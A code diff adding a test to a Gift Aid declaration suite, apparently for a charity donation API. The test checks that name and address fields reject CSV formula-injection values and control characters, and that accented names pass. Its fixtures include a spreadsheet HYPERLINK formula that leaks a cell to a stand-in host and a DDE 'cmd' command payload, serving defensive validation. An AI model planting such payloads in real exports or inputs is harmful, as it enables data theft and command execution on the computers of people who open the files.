@@ -88,6 +88,30 @@ describe('Gift Aid: declarations, status, claims and the schedule', () => {
     expect(count).toBe(0);
   });
 
+  it("refuses a name or address outside HMRC's characters, naming the field, and stores nothing", async () => {
+    const declare = (fields: Record<string, string>) =>
+      t.gql(DECLARE, { scope: 'Enduring', title: 'Mrs', firstName: 'Ada', lastName: 'Lovelace', houseNameOrNumber: '12', postcode: 'M1 1AE', ...fields }, dora.token);
+    const hostile: [string, string][] = [
+      ['firstName', '=HYPERLINK("//ev.il/"&D2,"x")'],
+      ['lastName', "+cmd|' /C calc'!A0"],
+      ['houseNameOrNumber', '@SUM(1+1)'],
+      ['houseNameOrNumber', '-2+3'],
+      ['title', '=1'],
+      ['firstName', 'Ada\tLee'],
+      ['lastName', 'Love\r\nlace'],
+    ];
+    for (const [field, value] of hostile) {
+      const refused = await declare({ [field]: value });
+      expect({ value, extensions: refused.errors?.[0]?.extensions }).toEqual({ value, extensions: expect.objectContaining({ code: 'BAD_USER_INPUT', field }) });
+      expect(refused.errors[0].message).toMatch(new RegExp(`^${field} `));
+    }
+    const [{ count }] = await t.db.query('SELECT count(*)::int FROM gift_aid_declarations WHERE user_id = $1', [dora.id]);
+    expect(count).toBe(0);
+
+    const accented = { scope: 'ThisDonation', title: 'Dr.', firstName: 'Zoë', lastName: 'Ó Súilleabháin', houseNameOrNumber: 'Flat 2/3, St. Mary’s (rear)', postcode: 'M1 1AE' };
+    expect((await ok(t, DECLARE, accented, (await t.member()).token)).createGiftAidDeclaration).toMatchObject({ firstName: 'Zoë', lastName: 'Ó Súilleabháin' });
+  });
+
   it('refuses Gift Aid on a gift no declaration covers', async () => {
     const refused = await t.gql(GIVE, { amount: 5, currency: 'GBP', giftAid: true }, dora.token);
     expect(refused.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'giftAid' });
